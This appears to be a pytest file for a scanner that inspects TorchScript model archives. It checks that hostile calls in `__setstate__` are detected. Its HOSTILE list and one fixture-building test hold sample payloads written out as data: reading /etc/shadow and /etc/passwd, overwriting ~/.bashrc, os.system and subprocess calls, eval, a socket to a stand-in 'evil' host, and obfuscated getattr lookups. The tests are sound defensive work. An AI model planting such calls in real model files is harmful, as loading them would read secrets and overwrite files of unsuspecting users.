"""TorchScript archives: pickles are scanned as pickles; code members are recorded (TSC001) and their calls
judged by what they do (TSC002-TSC005)."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from modelshield import scan_file
from modelshield.core.rules import Severity
from tests.conftest import ScanData

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "real"

MODULE_CODE = b"""class Net(Module):
  __parameters__ = ["weight", ]
  __buffers__ = []
  weight : Tensor
  training : bool
  def forward(self: __torch__.Net,
    x: Tensor) -> Tensor:
    y = ops.my_ops.warp_perspective(x, self.weight)
    return torch.relu(ops.aten.add(y, x))
"""


def test_every_code_member_of_a_real_archive_is_recorded() -> None:
    path = FIXTURES / "torchscript_scripted.pt"
    code = {n for n in zipfile.ZipFile(path).namelist() if "/code/" in n and n.endswith(".py")}
    result = scan_file(str(path))
    recorded = {f.location.members[-1] for f in result.findings if f.rule_id == "TSC001"}
    assert recorded == code
    assert all(f.level is Severity.INFO for f in result.findings)


def test_custom_operators_are_named(scan_data: ScanData) -> None:
    result = scan_data(MODULE_CODE, "net.py")
    (custom,) = [f for f in result.findings if f.rule_id != "TSC001"]
    assert custom.rule_id == "TSC004"
    assert custom.level is Severity.MEDIUM
    assert "ops.my_ops.warp_perspective" in custom.evidence
    assert "in forward()" in custom.evidence


def _with_setstate(body: str) -> bytes:
    """A module class as TorchScript prints it, with a hand-written `__setstate__` (runs at jit.load)."""
    setstate = (
        "  def __setstate__(self: __torch__.Net,\n    state: Tuple[Tensor, bool]) -> NoneType:\n"
        "    self.weight = (state)[0]\n" + "".join(f"    {line}\n" for line in body.splitlines())
    )
    return MODULE_CODE.replace(b"ops.my_ops.warp_perspective", b"torch.mul") + setstate.encode()


HOSTILE = [
    # what torch.jit.load compiles: aten file operators
    ('torch.save(self.weight, "/home/user/.bashrc")', "TSC003"),
    ('_0 = torch.from_file("/etc/shadow", True, 4096)', "TSC003"),
    ('_0 = ops.aten.from_file("/etc/shadow")', "TSC003"),
    ('_0 = torch.ops.aten.save(self.weight, "/tmp/x")', "TSC003"),
    ('_0 = torch.jit.load("/tmp/second.pt")', "TSC003"),
    ('_0 = torch.hub.load("evil/repo", "m")', "TSC003"),
    ('_0 = getattr(torch, "from_file")("/etc/shadow")', "TSC003"),
    ('_0 = getattr(getattr(torch, "ops"), "evil").run(self.weight)', "TSC004"),
    ("_0 = torch.classes.evil.Runner()", "TSC004"),
    # a bound operator called later is judged where it is named
    ('_0 = torch.save\n_0(self.weight, "/tmp/x")', "TSC003"),
    ("_0 = torch.ops.evil\n_1 = _0.run(self.weight)", "TSC004"),
    # hand-edited archives: Python the TorchScript compiler rejects is still judged
    ('os.system("id")', "TSC002"),
    ('import os as t\nt.system("id")', "TSC002"),
    ('from subprocess import run as r\nr(["id"])', "TSC002"),
    ('eval("1")', "TSC002"),
    ('_0 = getattr(torch, "sa" + "ve")', "TSC002"),
    ("_0 = torch.ops.aten.__getattr__(self.name)(self.weight)", "TSC002"),
    ('_0 = open("/etc/passwd").read()', "TSC003"),
    ('_0 = socket.create_connection(("evil", 80))', "TSC003"),
]


@pytest.mark.parametrize(("body", "rule"), HOSTILE)
def test_calls_are_judged_by_what_they_do(scan_data: ScanData, body: str, rule: str) -> None:
    result = scan_data(_with_setstate(body), "net.py")
    found = [f for f in result.findings if f.rule_id != "TSC001"]
    assert {f.rule_id for f in found} == {rule}, found
    assert "__setstate__" in found[0].evidence or rule == "TSC002"


def test_hostile_setstate_in_a_real_archive_is_high(tmp_path: Path) -> None:
    """A real torch.jit.save archive with its top-level code member edited by hand."""
    source = FIXTURES / "torchscript_scripted.pt"
    target = tmp_path / "edited.pt"
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith("code/__torch__.py"):
                data += b"  def __setstate__(self: __torch__.TinyNet, state: bool) -> NoneType:\n"
                data += b'    torch.save(torch.zeros([1]), "/home/user/.bashrc")\n    return None\n'
            zout.writestr(info, data)
    result = scan_file(str(target))
    (finding,) = [f for f in result.findings if f.level > Severity.INFO]
    assert finding.rule_id == "TSC003"
    assert finding.location.members[-1].endswith("code/__torch__.py")


def test_real_traced_and_scripted_archives_stay_info() -> None:
    for name in ("torchscript_scripted.pt", "torchscript_traced.pt"):
        result = scan_file(str(FIXTURES / name))
        assert result.findings
        assert {f.rule_id for f in result.findings} == {"TSC001"}


def test_unparseable_code_fails_closed(scan_data: ScanData) -> None:
    result = scan_data(MODULE_CODE + b"  def f(self) -> int:\n    return (((\n", "net.py")
    assert "TSC005" in {f.rule_id for f in result.findings}


def test_ordinary_python_is_not_claimed(scan_data: ScanData) -> None:
    source = b"import torch\n\n\ndef forward(x: torch.Tensor) -> torch.Tensor:\n  return torch.relu(x)\n"
    result = scan_data(source, "train.py")
    assert result.format == "text"
    assert not result.findings


def test_code_with_leading_comments_is_still_code(scan_data: ScanData) -> None:
    """torch.jit.load compiles the member as source, so blank lines and comments may come first."""
    result = scan_data(b"# generated\n\n" + MODULE_CODE, "net.py")
    assert [f.rule_id for f in result.findings] == ["TSC001", "TSC004"]


def test_real_compiled_setstate_reading_a_file_is_high() -> None:
    """torch.jit.script compiled this `__setstate__` (scripts/make_fixtures.py): torch.jit.load maps the file."""
    path = Path(__file__).resolve().parents[1] / "fixtures" / "code_in_archives" / "torchscript_setstate_reads_file.pt"
    result = scan_file(str(path))
    (finding,) = [f for f in result.findings if f.level > Severity.INFO]
    assert finding.rule_id == "TSC003"
    assert "torch.from_file" in finding.evidence
    assert "__setstate__" in finding.evidence
